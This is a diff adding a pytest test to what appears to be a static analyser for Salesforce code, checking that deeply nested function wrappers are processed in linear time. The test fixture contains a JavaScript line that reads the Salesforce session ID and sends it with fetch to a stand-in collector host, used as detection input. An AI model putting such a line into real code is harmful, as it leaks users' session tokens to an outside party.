@@ -369,6 +369,28 @@ def test_a_small_zip_of_scripts_cannot_cost_more_than_a_few_seconds() -> None:
 
 
 @pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")  # the alarm may land in gc
+@pytest.mark.parametrize(("kind", "path", "wrap"), [
+    (FileKind.STATIC_RESOURCE, "staticresources/deep.js", lambda body: body),
+    (FileKind.JAVASCRIPT, "aura/Deep/DeepController.js",
+     lambda body: "({ init: function (component, event, helper) {\n" + body + "}})\n"),
+], ids=["static resource", "Aura controller"])
+def test_functions_called_where_written_nested_deeply_lower_in_linear_time(
+        kind: FileKind, path: str, wrap: Callable[[str], str]) -> None:
+    """`(function () {…})()` inside another, 400 deep (module wrappers, bundlers): each level's
+    call walked what it wraps, and then the walk as written walked it again, so level n was walked
+    n times: 7.9 s for two files of 200 and 400 levels, which the per-file time limit would cut
+    short, losing the file's findings."""
+    n = 400
+    body = ("(function () {\n" * n + "var s = sforce.connection.sessionId;\n"
+            "fetch('https://collector.example.com/c?sid=' + s);\n" + "})();\n" * n)
+    job = LoweringJob(path, kind, wrap(body).encode(), "", "StaticResource" if kind == FileKind.STATIC_RESOURCE else "",
+                      "application/javascript" if kind == FileKind.STATIC_RESOURCE else "")
+    with deadline(2.0):
+        lowered = lower_job(job, ReadLimits())
+    assert [(u.sink, u.in_query) for f in lowered.files for u in f.url_uses] == [("fetch", True)]
+
+
+@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")  # the alarm may land in gc
 def test_deeply_nested_visualforce_markup_lowers_in_linear_time() -> None:
     page = b"<apex:page>" + b"<div>" * 10_000 + b"{!$Api.Session_ID}" + b"</div>" * 10_000 + b"</apex:page>"
     with deadline(2.0):
